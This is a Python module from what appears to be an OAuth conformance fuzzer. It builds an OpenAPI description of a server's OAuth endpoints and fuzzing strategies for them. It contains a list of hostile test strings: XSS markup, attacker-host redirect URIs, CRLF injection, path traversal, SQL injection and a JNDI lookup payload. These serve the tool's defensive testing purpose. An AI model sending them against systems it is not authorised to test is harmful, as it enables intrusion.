"""An OpenAPI 3.1 description of a target's OAuth endpoints, derived from its RFC 8414 metadata.

What a client can call, as the metadata advertises it: the metadata document itself, the
authorization endpoint (query parameters), the token endpoint (a form body with one branch per
advertised grant type, and the RFC 7009 branch when revocation shares the endpoint), a separate
revocation endpoint, and the registration endpoint (a JSON object of RFC 7591 client metadata).

String parameters name a custom format per kind of value (``oauth-conformance-client-id``, ...):
:func:`string_formats` gives the strategies behind them, which draw both any string and the
values the run knows to be meaningful (:class:`Seeds`: a registered client id, its redirect URI,
a live refresh token), advertised values and a fixed set of hostile strings (markup, foreign
redirect URIs, control characters), so that random generation also reaches the code behind a
valid client and the places where input is reflected. The document itself never carries seeds
(they may be secrets): it is the same with or without them, and a report may include it.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

from oauth_conformance.target import JWT_BEARER
from oauth_conformance.target import TOKEN_EXCHANGE

DEVICE_CODE = "urn:ietf:params:oauth:grant-type:device_code"
ACCESS_TOKEN_TYPE = "urn:ietf:params:oauth:token-type:access_token"
TOKEN_TYPES = (
    ACCESS_TOKEN_TYPE,
    "urn:ietf:params:oauth:token-type:refresh_token",
    "urn:ietf:params:oauth:token-type:id_token",
    "urn:ietf:params:oauth:token-type:jwt",
    "urn:ietf:params:oauth:token-type:id-jag",
)
CLIENT_AUTH = ("client_id", "client_secret")

# grant_type -> (required, optional) form parameters besides grant_type and client authentication:
# RFC 6749 sections 4.1.3, 4.4.2 and 6; RFC 8693 section 2.1; RFC 7523 section 2.1; RFC 8628 3.4.
GRANT_PARAMETERS: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
    "authorization_code": (("code",), ("redirect_uri", "code_verifier", "resource")),
    "refresh_token": (("refresh_token",), ("scope", "resource")),
    "client_credentials": ((), ("scope", "resource")),
    TOKEN_EXCHANGE: (
        ("subject_token", "subject_token_type"),
        ("actor_token", "actor_token_type", "requested_token_type", "scope", "resource", "audience"),
    ),
    JWT_BEARER: (("assertion",), ("scope", "resource")),
    DEVICE_CODE: (("device_code",), ()),
}
# RFC 7009 section 2.1.
REVOCATION_PARAMETERS: tuple[tuple[str, ...], tuple[str, ...]] = (("token",), ("token_type_hint",))
AUTHORIZATION_PARAMETERS = (
    "response_type",
    "client_id",
    "redirect_uri",
    "scope",
    "state",
    "code_challenge",
    "code_challenge_method",
    "resource",
)
REGISTRATION_STRINGS = ("client_name", "scope", "software_id", "software_version")
REGISTRATION_URIS = ("client_uri", "logo_uri", "policy_uri", "tos_uri", "jwks_uri")

# Markup whose unescaped reflection would run in a browser; a foreign redirect target; values
# that break naive parsers. Distinctive enough that finding one in a page is never a coincidence.
MARKUP = (
    '<script>alert("oauth-conformance")</script>',
    '"><img src=x onerror=alert("oauth-conformance")>',
    "<svg/onload=alert('oauth-conformance')>",
)
FOREIGN_URIS = (
    "https://attacker.oauth-conformance.invalid/callback",
    "http://attacker.oauth-conformance.invalid/cb?x=1",
    "//attacker.oauth-conformance.invalid/cb",
    "javascript:alert('oauth-conformance')",
)
ODD_STRINGS = (
    "",
    " ",
    "\x00",
    "a\r\nX-Injected: oauth-conformance",
    "../../../../etc/passwd",
    "' OR '1'='1",
    "${jndi:ldap://attacker.oauth-conformance.invalid/a}",
    "{{7*7}}",
    "null",
    "[]",
    "{}",
    "-1",
    "1e309",
    "\u202egnp.exe",
    "\U0001f600" * 8,
    "%00%ff%fe",
    "x" * 300,
)
HOSTILE_STRINGS = (*MARKUP, *ODD_STRINGS)
HOSTILE_URIS = (*FOREIGN_URIS, *MARKUP, "http://127.0.0.1:1/\x00cb", "https://client.example/" + "a" * 300)


@dataclass(frozen=True, slots=True)
class Seeds:
    """Values the run knows to be meaningful to the target (mixed into the generated strings)."""

    client_ids: tuple[str, ...] = ()
    redirect_uris: tuple[str, ...] = ()
    client_secrets: tuple[str, ...] = ()
    refresh_tokens: tuple[str, ...] = ()
    access_tokens: tuple[str, ...] = ()
    scope: str | None = None
    resource: str | None = None
    code_challenge: str | None = None


@dataclass(frozen=True, slots=True)
class Endpoint:
    """One endpoint the description covers; ``kinds`` is what it serves (token and revocation may share)."""

    operation_id: str
    method: str
    url: str
    kinds: tuple[str, ...]

    @property
    def path(self) -> str:
        return urlsplit(self.url).path or "/"

    @property
    def origin(self) -> str:
        parts = urlsplit(self.url)
        return f"{parts.scheme}://{parts.netloc}"

    @property
    def label(self) -> str:
        return f"{self.method} {self.path}"

    def serves(self, kind: str) -> bool:
        return kind in self.kinds


def _str_list(metadata: dict[str, Any], name: str, default: tuple[str, ...] = ()) -> list[str]:
    value = metadata.get(name)
    if isinstance(value, list):
        return [v for v in value if isinstance(v, str)]
    return list(default)


def _url(metadata: dict[str, Any], name: str) -> str | None:
    value = metadata.get(name)
    return value if isinstance(value, str) and value.startswith(("http://", "https://")) else None


def endpoints(metadata: dict[str, Any], metadata_url: str) -> list[Endpoint]:
    """The endpoints the metadata advertises, in a fixed order (the fuzzing order)."""
    found = [Endpoint("metadata", "GET", metadata_url, ("metadata",))]
    authorization = _url(metadata, "authorization_endpoint")
    if authorization:
        found.append(Endpoint("authorization", "GET", authorization, ("authorization",)))
    token = _url(metadata, "token_endpoint")
    revocation = _url(metadata, "revocation_endpoint")
    if token:
        shared = revocation is not None and _same_endpoint(token, revocation)
        found.append(Endpoint("token", "POST", token, ("token", "revocation") if shared else ("token",)))
    if revocation and not (token and _same_endpoint(token, revocation)):
        found.append(Endpoint("revocation", "POST", revocation, ("revocation",)))
    registration = _url(metadata, "registration_endpoint")
    if registration:
        found.append(Endpoint("registration", "POST", registration, ("registration",)))
    return found


def _same_endpoint(a: str, b: str) -> bool:
    x, y = urlsplit(a), urlsplit(b)
    return (x.scheme, x.netloc.lower(), x.path or "/") == (y.scheme, y.netloc.lower(), y.path or "/")


# ---------------------------------------------------------------------------------------- schemas
# String parameters name a custom format per kind (``oauth-conformance-client-id``...): the
# strategy behind each (:func:`string_formats`) draws half from the values that mean something to
# the target (seeds, advertised values, hostile strings) and half from any text. An ``anyOf`` of a
# string and an enum would not do: the generator folds it into the plain string and the enum is
# never drawn.
FORMAT_PREFIX = "oauth-conformance-"


def _kind(kind: str) -> dict[str, Any]:
    return {"type": "string", "format": FORMAT_PREFIX + kind}


# form and query parameter -> its kind
PARAMETER_KINDS = {
    "client_id": "client-id",
    "client_secret": "client-secret",
    "code": "text",
    "redirect_uri": "redirect-uri",
    "code_verifier": "code-verifier",
    "resource": "resource",
    "scope": "scope",
    "refresh_token": "refresh-token",
    "token": "token",
    "token_type_hint": "token-type-hint",
    "subject_token": "access-token",
    "actor_token": "access-token",
    "subject_token_type": "token-type",
    "actor_token_type": "token-type",
    "requested_token_type": "token-type",
    "audience": "resource",
    "assertion": "text",
    "device_code": "text",
    "response_type": "response-type",
    "state": "state",
    "code_challenge": "code-challenge",
    "code_challenge_method": "challenge-method",
}


def string_formats(metadata: dict[str, Any], seeds: Seeds) -> dict[str, Any]:
    """The hypothesis strategy behind every ``oauth-conformance-*`` format, for this run's seeds."""
    from hypothesis import strategies as st

    scopes = _str_list(metadata, "scopes_supported")
    scope = seeds.scope or " ".join(scopes[:2]) or None
    resources = (seeds.resource, *_str_list(metadata, "protected_resources"))
    plausible_uri = st.from_regex(r"\Ahttps?://[a-z]{1,12}\.example(:[0-9]{2,5})?/[a-z0-9/._-]{0,24}\Z")

    def text(*known: str | None, extra: Any = None) -> Any:
        values = list(dict.fromkeys(v for v in (*known, *HOSTILE_STRINGS) if v is not None))
        return st.one_of(st.sampled_from(values), extra if extra is not None else st.text(), st.text())

    def uri(*known: str | None) -> Any:
        values = list(dict.fromkeys(v for v in (*known, *HOSTILE_URIS) if v is not None))
        return st.one_of(st.sampled_from(values), plausible_uri, st.text())

    def choice(values: list[str] | tuple[str, ...]) -> Any:
        return st.one_of(st.sampled_from(list(values) or ["x"]), st.sampled_from(HOSTILE_STRINGS), st.text())

    kinds = {
        "client-id": text(*seeds.client_ids),
        "client-secret": text(*seeds.client_secrets),
        "text": text(),
        "redirect-uri": uri(*seeds.redirect_uris),
        "code-verifier": text(extra=st.from_regex(r"\A[A-Za-z0-9._~-]{43,128}\Z")),
        "resource": uri(*resources),
        "scope": text(scope, *scopes),
        "refresh-token": text(*seeds.refresh_tokens),
        "token": text(*seeds.refresh_tokens, *seeds.access_tokens),
        "access-token": text(*seeds.access_tokens),
        "token-type-hint": choice(("access_token", "refresh_token")),
        "token-type": choice(TOKEN_TYPES),
        "response-type": choice(_str_list(metadata, "response_types_supported", ("code",))),
        "state": text("oauth-conformance-state"),
        "code-challenge": text(seeds.code_challenge),
        "challenge-method": choice(_str_list(metadata, "code_challenge_methods_supported", ("S256",))),
        "auth-method": choice(_str_list(metadata, "token_endpoint_auth_methods_supported", ("client_secret_basic",))),
        "grant-type": choice(_str_list(metadata, "grant_types_supported", ("authorization_code",))),
        "uri": uri(),
        "contact": text("admin@client.example"),
    }
    return {FORMAT_PREFIX + kind: strategy for kind, strategy in kinds.items()}


def _form_properties(names: tuple[str, ...]) -> dict[str, Any]:
    return {name: _kind(PARAMETER_KINDS.get(name, "text")) for name in names}


def token_body(metadata: dict[str, Any], *, revocation: bool) -> dict[str, Any]:
    """The token endpoint's form: one object schema per advertised grant type (and revocation)."""
    branches: list[dict[str, Any]] = []
    for grant in _str_list(metadata, "grant_types_supported", ("authorization_code",)):
        if grant == "implicit":
            continue  # not a token endpoint grant
        required, optional = GRANT_PARAMETERS.get(grant, ((), ()))
        names = (*required, *optional, *CLIENT_AUTH)
        properties = {"grant_type": {"const": grant}, **_form_properties(names)}
        branches.append({"type": "object", "required": ["grant_type", *required], "properties": properties})
    if revocation:
        branches.append(revocation_body())
    return branches[0] if len(branches) == 1 else {"oneOf": branches}


def revocation_body() -> dict[str, Any]:
    required, optional = REVOCATION_PARAMETERS
    return {
        "type": "object",
        "required": list(required),
        "properties": _form_properties((*required, *optional, *CLIENT_AUTH)),
    }


def registration_body() -> dict[str, Any]:
    """RFC 7591 section 2 client metadata (unknown members allowed, as the RFC says to ignore them)."""
    properties: dict[str, Any] = {
        "redirect_uris": {"type": "array", "items": _kind("redirect-uri")},
        "token_endpoint_auth_method": _kind("auth-method"),
        "grant_types": {"type": "array", "items": _kind("grant-type")},
        "response_types": {"type": "array", "items": _kind("response-type")},
        "contacts": {"type": "array", "items": _kind("contact")},
        "jwks": {"type": "object", "properties": {"keys": {"type": "array", "items": {"type": "object"}}}},
    }
    for name in REGISTRATION_STRINGS:
        properties[name] = _kind("scope" if name == "scope" else "text")
    for name in REGISTRATION_URIS:
        properties[name] = _kind("uri")
    return {"type": "object", "properties": properties}


def authorization_parameters() -> list[dict[str, Any]]:
    required = ("response_type", "client_id")
    return [
        {"name": name, "in": "query", "required": name in required, "schema": _kind(PARAMETER_KINDS[name])}
        for name in AUTHORIZATION_PARAMETERS
    ]


_ERROR = {
    "type": "object",
    "required": ["error"],
    "properties": {
        "error": {"type": "string"},
        "error_description": {"type": "string"},
        "error_uri": {"type": "string"},
    },
}
_TOKEN_RESPONSE = {
    "type": "object",
    "required": ["access_token", "token_type"],
    "properties": {
        "access_token": {"type": "string"},
        "token_type": {"type": "string"},
        "expires_in": {"type": "integer"},
        "refresh_token": {"type": "string"},
        "scope": {"type": "string"},
    },
}


def _json(schema: dict[str, Any], description: str) -> dict[str, Any]:
    return {"description": description, "content": {"application/json": {"schema": schema}}}


def _operation(endpoint: Endpoint, metadata: dict[str, Any]) -> dict[str, Any]:
    op: dict[str, Any] = {"operationId": endpoint.operation_id, "summary": ", ".join(endpoint.kinds)}
    if endpoint.operation_id == "metadata":
        op["responses"] = {"200": _json({"type": "object"}, "RFC 8414 authorization server metadata")}
    elif endpoint.operation_id == "authorization":
        op["parameters"] = authorization_parameters()
        op["responses"] = {
            "200": {"description": "a login or consent page"},
            "302": {"description": "back to the client's registered redirect URI, or to a login page"},
            "400": {"description": "an error shown to the user, never a redirect to an unvalidated URI"},
        }
    elif endpoint.operation_id in ("token", "revocation"):
        if endpoint.serves("token"):
            schema = token_body(metadata, revocation=endpoint.serves("revocation"))
            ok = _json(_TOKEN_RESPONSE, "a token response (or an empty 200 for a revocation)")
        else:
            schema = revocation_body()
            ok = {"description": "the token is revoked or was invalid (RFC 7009 section 2.2)"}
        op["requestBody"] = {"required": True, "content": {"application/x-www-form-urlencoded": {"schema": schema}}}
        op["responses"] = {"200": ok, "4XX": _json(_ERROR, "an RFC 6749 section 5.2 error")}
    else:
        op["requestBody"] = {
            "required": True,
            "content": {"application/json": {"schema": registration_body()}},
        }
        op["responses"] = {
            "201": _json({"type": "object", "required": ["client_id"]}, "RFC 7591 client information"),
            "4XX": _json(_ERROR, "an RFC 7591 section 3.2.2 error"),
        }
    return op


def describe(metadata: dict[str, Any], metadata_url: str) -> dict[str, Any]:
    """The OpenAPI 3.1 document for the endpoints :func:`endpoints` finds (string parameters
    name ``oauth-conformance-*`` formats; :func:`string_formats` gives their strategies)."""
    found = endpoints(metadata, metadata_url)
    issuer = metadata.get("issuer") if isinstance(metadata.get("issuer"), str) else found[0].origin
    paths: dict[str, dict[str, Any]] = {}
    for endpoint in found:
        item = paths.setdefault(endpoint.path, {})
        if endpoint.origin != found[0].origin:
            item["servers"] = [{"url": endpoint.origin}]
        item[endpoint.method.lower()] = _operation(endpoint, metadata)
    return {
        "openapi": "3.1.0",
        "info": {
            "title": f"OAuth endpoints of {issuer}",
            "version": "derived",
            "description": "Derived by oauth-conformance from the RFC 8414 metadata at " + metadata_url,
        },
        "servers": [{"url": found[0].origin}],
        "paths": paths,
    }
